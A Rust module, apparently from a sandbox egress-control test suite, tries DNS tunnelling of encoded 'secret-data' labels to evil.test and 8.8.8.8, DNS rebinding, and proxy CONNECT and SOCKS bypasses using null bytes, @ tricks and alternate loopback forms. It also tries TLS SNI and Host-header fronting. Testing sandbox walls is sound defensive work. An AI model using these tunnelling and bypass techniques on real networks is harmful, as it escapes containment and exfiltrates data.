//! The way out: names that carry data, names that lead elsewhere, and the proxy.

use std::net::{Ipv4Addr, SocketAddr, UdpSocket};

use super::network::{PATIENCE, fetch, talk};
use super::{Attack, Stopped, Tried};
use crate::egress::{PROXY_PORT, synthetic};

/// The only name that may be connected to.
const REACHED: &str = "reached.test";

pub(super) fn tunnel(attack: &Attack<'_>) {
    const TXT: u16 = 16;
    for (what, kind) in [("A", 1), ("NS", 2), ("CNAME", 5), ("NULL", 10), ("MX", 15), ("TXT", TXT), ("AAAA", 28)] {
        let name = format!("c2VjcmV0LWRhdGE-{kind}.evil.test");
        attack.attempt(&format!("{what} question for another name"), || ask(&name, kind));
    }
    attack.attempt("a name below the allowed one", || ask(&format!("data.{REACHED}"), TXT));
    attack.attempt("a resolver of the internet", || {
        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
        Ok(format!("{} bytes sent", socket.send_to(&question("evil.test", TXT), (Ipv4Addr::new(8, 8, 8, 8), 53))?))
    });
}

/// Asks the sandbox's resolver; that there is no such name stops the attack.
fn ask(name: &str, kind: u16) -> Tried {
    let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    socket.set_read_timeout(Some(PATIENCE))?;
    socket.send_to(&question(name, kind), (synthetic::GATEWAY, 53))?;
    let mut answer = [0; 512];
    let length = socket.recv(&mut answer)?;
    match answer.get(..length).unwrap_or_default() {
        [_, _, _, flags, ..] if flags & 15 == 3 => Err(Stopped::by("no such name")),
        [_, _, _, flags, _, _, _, answers, ..] => Ok(format!("code {}, {answers} answers", flags & 15)),
        _ => Ok("a broken answer".to_owned()),
    }
}

fn question(name: &str, kind: u16) -> Vec<u8> {
    let mut packet = vec![0, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        packet.push(u8::try_from(label.len()).unwrap_or(63));
        packet.extend(label.as_bytes());
    }
    packet.push(0);
    packet.extend(kind.to_be_bytes());
    packet.extend([0, 1]);
    packet
}

pub(super) fn rebinding(attack: &Attack<'_>) {
    let given = attack.given;
    control(attack);
    attack.attempt("an allowed name that resolves to the host", || fetch(("rebound.test", given.forbidden_port)));
    attack.attempt("the same through the proxy", || through_proxy(&format!("CONNECT rebound.test:{} HTTP/1.1", given.forbidden_port)));
    attack.attempt("the same by SOCKS", || socks(&named("rebound.test"), given.forbidden_port));
}

/// An attack that is stopped says little where nothing gets through at all.
fn control(attack: &Attack<'_>) {
    attack.attempt("control: the allowed name", || match talk((REACHED, attack.given.allowed_port), &request("/", REACHED)) {
        Ok(_) => Err(Stopped::by("reached, as it should be")),
        Err(Stopped(why)) => Ok(format!("is not reached, so nothing is known: {why}")),
    });
}

pub(super) fn names(attack: &Attack<'_>) {
    control(attack);
    let port = attack.given.allowed_port;
    let targets = [
        format!("evil.test:{port}"),
        format!("{REACHED}\0.evil.test:{port}"),
        format!("evil.test\0.{REACHED}:{port}"),
        format!("evil.test@{REACHED}:{port}"),
        format!("{REACHED}@evil.test:{port}"),
        format!("{REACHED}.:{port}"),
        format!("{REACHED}%2eevil.test:{port}"),
        format!("127.1:{port}"),
        format!("2130706433:{port}"),
        format!("0x7f.0.0.1:{port}"),
        format!("0177.0.0.1:{port}"),
        format!("localhost:{port}"),
        format!("[::1]:{port}"),
        format!("[::ffff:127.0.0.2]:{port}"),
        format!("127.0.0.2:{port}"),
        format!("{}:{port}", synthetic::GATEWAY),
        format!("{REACHED}:22"),
        format!("{REACHED}:0"),
        REACHED.to_owned(),
        format!("r\u{e9}ached.test:{port}"),
        format!("xn--rached-bva.test:{port}"),
        format!("{}:{port}", "a".repeat(20_000)),
    ];
    for target in &targets {
        let shown: String = target.chars().take(40).collect();
        attack.attempt(&format!("CONNECT {}", shown.escape_debug()), || through_proxy(&format!("CONNECT {target} HTTP/1.1")));
    }
    let lines = format!("CONNECT evil.test:{port} HTTP/1.1\r\nCONNECT {REACHED}:{port} HTTP/1.1");
    attack.attempt("two lines in one", || through_proxy(&lines));
    attack.attempt("GET instead of CONNECT", || through_proxy(&format!("GET http://{REACHED}:{port}/ HTTP/1.1")));
    for name in ["evil.test", "evil.test\0.reached.test", "reached.test\0", "reached.test.", "127.1", "localhost"] {
        attack.attempt(&format!("SOCKS {}", name.escape_debug()), || socks(&named(name), port));
    }
    attack.attempt("SOCKS 127.0.0.2", || socks(&[1, 127, 0, 0, 2], port));
    attack.attempt("SOCKS to nothing", || socks(&[9], port));
}

fn proxy() -> SocketAddr {
    SocketAddr::from((synthetic::GATEWAY, PROXY_PORT))
}

/// Anything but a 200 stops it.
fn through_proxy(line: &str) -> Tried {
    match talk(proxy(), format!("{line}\r\nHost: x\r\n\r\n").as_bytes())? {
        answer if answer.starts_with("HTTP/1.1 4") => Err(Stopped::by("refused")),
        answer => Ok(answer),
    }
}

/// The address in the form of a name.
fn named(name: &str) -> Vec<u8> {
    let length = u8::try_from(name.len()).unwrap_or(u8::MAX);
    [&[3, length], name.as_bytes()].concat()
}

/// Greeting and request at once; the answer to both ends with the request's code, 0 for success.
fn socks(address: &[u8], port: u16) -> Tried {
    let request = [&[5, 1, 0, 5, 1, 0], address, &port.to_be_bytes()].concat();
    let answer = talk(proxy(), &request)?;
    if answer.starts_with(r"\u{5}\0\u{5}\0") { Ok(answer) } else { Err(Stopped::by("refused")) }
}

pub(super) fn fronting(attack: &Attack<'_>) {
    control(attack);
    let port = attack.given.allowed_port;
    for (what, name) in [("another name", Some("evil.test")), ("a name below", Some("a.reached.test")), ("no name", None)] {
        attack.attempt(&format!("TLS for {what}"), || talk((REACHED, port), &hello(name)));
    }
    let cases = [
        ("another host", request("/", "evil.test")),
        ("a host below", request("/", "a.reached.test")),
        ("another host in its target", request("http://evil.test/", REACHED)),
        ("two hosts", request("/", "reached.test\r\nHost: evil.test")),
        ("two hosts in one line", request("/", "reached.test\nHost: evil.test")),
        ("no host", b"GET / HTTP/1.1\r\n\r\n".to_vec()),
        ("another host, without a version", b"GET http://evil.test/\r\n\r\n".to_vec()),
    ];
    for (what, request) in cases {
        attack.attempt(&format!("HTTP for {what}"), || talk((REACHED, port), &request));
    }
}

fn request(target: &str, host: &str) -> Vec<u8> {
    format!("GET {target} HTTP/1.1\r\nHost: {host}\r\n\r\n").into_bytes()
}

/// The first message of TLS 1.2, asking for `name`.
fn hello(name: Option<&str>) -> Vec<u8> {
    let length = |bytes: &[u8]| u16::try_from(bytes.len()).unwrap_or(u16::MAX).to_be_bytes();
    let extensions = name.map_or_else(Vec::new, |name| {
        let entry = [&[0][..], &length(name.as_bytes()), name.as_bytes()].concat();
        let list = [&length(&entry)[..], &entry].concat();
        [&[0, 0][..], &length(&list), &list].concat()
    });
    let body = [&[3, 3][..], &[7; 32], &[0], &[0, 2, 0xc0, 0x2f], &[1, 0], &length(&extensions), &extensions].concat();
    let message = [&[1, 0][..], &length(&body), &body].concat();
    [&[22, 3, 1][..], &length(&message), &message].concat()
}
